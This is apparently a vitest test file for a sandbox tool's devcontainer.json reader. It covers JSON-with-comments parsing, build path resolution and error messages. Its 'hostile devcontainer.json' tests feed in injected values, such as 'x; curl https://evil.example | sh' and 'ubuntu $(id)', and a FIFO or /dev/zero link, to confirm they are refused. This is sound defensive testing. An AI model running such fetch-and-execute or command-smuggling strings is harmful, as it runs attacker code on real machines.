import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { jsoncToJson, readDevcontainer } from '../../../../src/sandbox/docker/devcontainer.js';
import { tempDir } from '../../../helpers/temp-dirs.js';

/** JSON text with comments and trailing commas put between its tokens, as a person writes devcontainer.json. */
function withComments(value: unknown, comment: (index: number) => string): string {
  let index = 0;
  const write = (node: unknown): string => {
    if (Array.isArray(node)) return `[${node.map((item) => `${comment(index++)}${write(item)}`).join(',')}${node.length ? ',' : ''}]`;
    if (node !== null && typeof node === 'object')
      return `{${Object.entries(node)
        .map(([key, item]) => `${comment(index++)}${JSON.stringify(key)}${comment(index++)}:${write(item)}`)
        .join(',')}${Object.keys(node).length ? `,${comment(index++)}` : ''}}`;
    return JSON.stringify(node);
  };
  return write(value);
}

describe('jsoncToJson', () => {
  it('reads back any JSON value with comments and trailing commas between its tokens, strings untouched', () => {
    const comments = fc.constantFrom('', ' ', '// a line comment, with "quotes" and a , comma\n', '/* a block, ] } */', '/**/', '\n// x\n');
    fc.assert(
      fc.property(fc.jsonValue(), fc.array(comments, { minLength: 1, maxLength: 8 }), (value, picks) => {
        const text = withComments(value, (index) => picks[index % picks.length]!);
        expect(JSON.parse(jsoncToJson(text))).toEqual(JSON.parse(JSON.stringify(value)));
      }),
    );
  });

  it('keeps comment markers and commas that are inside strings', () => {
    const text = '{"url": "http://x//y", "glob": "a/*b*/c", "list": "a,]", "escaped": "q\\"//not a comment",}';
    expect(JSON.parse(jsoncToJson(text))).toEqual({ url: 'http://x//y', glob: 'a/*b*/c', list: 'a,]', escaped: 'q"//not a comment' });
  });

  it('leaves an unterminated block comment for the parser to refuse, never drops the rest of the file', () => {
    expect(() => JSON.parse(jsoncToJson('{"a": 1 /* never closed'))).toThrow();
  });
});

describe('readDevcontainer', () => {
  function project(files: Record<string, string>): string {
    const root = tempDir();
    for (const [relative, text] of Object.entries(files)) {
      fs.mkdirSync(path.dirname(path.join(root, relative)), { recursive: true });
      fs.writeFileSync(path.join(root, relative), text);
    }
    return root;
  }

  it('resolves build.dockerfile and build.context from the folder of devcontainer.json, with args and remoteUser', () => {
    const root = project({
      '.devcontainer/devcontainer.json':
        '{ // c\n "build": {"dockerfile": "Dockerfile", "context": "..", "args": {"A": "1",},}, "remoteUser": "node", "containerUser": "other" }',
    });
    expect(readDevcontainer(root)).toEqual({
      file: '.devcontainer/devcontainer.json',
      ignored: [],
      user: 'node',
      build: { dockerfile: path.join(root, '.devcontainer/Dockerfile'), context: root, args: { A: '1' } },
    });
  });

  it('reads an image by reference from .devcontainer.json at the root, and says what it does not use', () => {
    const root = project({ '.devcontainer.json': '{"image": "node:20", "features": {"ghcr.io/x": {}}, "containerUser": "dev"}' });
    expect(readDevcontainer(root)).toMatchObject({ image: 'node:20', user: 'dev', ignored: [expect.stringContaining('features')] });
  });

  it('is null without a dev container, and a typed error naming the file and the fault for one that is broken', () => {
    expect(readDevcontainer(project({}))).toBeNull();
    for (const [text, words] of [
      ['{"image": ', 'is not valid JSON with comments'],
      ['[1]', 'must hold one JSON object'],
      ['{"name": "x"}', 'names neither "image" nor "build.dockerfile"'],
      ['{"build": {"dockerfile": "D", "args": {"A": 1}}}', 'build.args.A must be a string'],
      ['{"image": 7}', '"image" must be a non-empty string'],
    ] as const) {
      const root = project({ '.devcontainer/devcontainer.json': text });
      expect(() => readDevcontainer(root)).toThrow(
        expect.objectContaining({ code: 'SANDBOX_FAILED', message: expect.stringContaining(words) }),
      );
    }
  });
});

describe('a hostile devcontainer.json', () => {
  it('refuses an "image" that is not an image reference (an option, a shell line), so no `docker pull …` suggestion carries it', () => {
    for (const image of ['--privileged', 'x; curl https://evil.example | sh', 'ubuntu $(id)', 'UPPER/case']) {
      const root = tempDir();
      fs.writeFileSync(path.join(root, '.devcontainer.json'), JSON.stringify({ image }));
      expect(() => readDevcontainer(root), image).toThrow(/"image" is not an image reference/);
    }
    const root = tempDir();
    fs.writeFileSync(
      path.join(root, '.devcontainer.json'),
      JSON.stringify({ image: 'mcr.microsoft.com/devcontainers/typescript-node:1-20-bullseye' }),
    );
    expect(readDevcontainer(root)?.image).toBe('mcr.microsoft.com/devcontainers/typescript-node:1-20-bullseye');
  });

  it('refuses a devcontainer.json that is a FIFO or a link to a device without reading it (a read would never end)', () => {
    const root = tempDir();
    fs.symlinkSync('/dev/zero', path.join(root, '.devcontainer.json'));
    expect(() => readDevcontainer(root)).toThrow(/leads out of the workspace root/);
    const other = tempDir();
    fs.mkdirSync(path.join(other, '.devcontainer'));
    const made = spawnSync('mkfifo', [path.join(other, '.devcontainer/devcontainer.json')]);
    expect(made.status).toBe(0);
    expect(() => readDevcontainer(other)).toThrow(/is not a regular file/);
  });
});
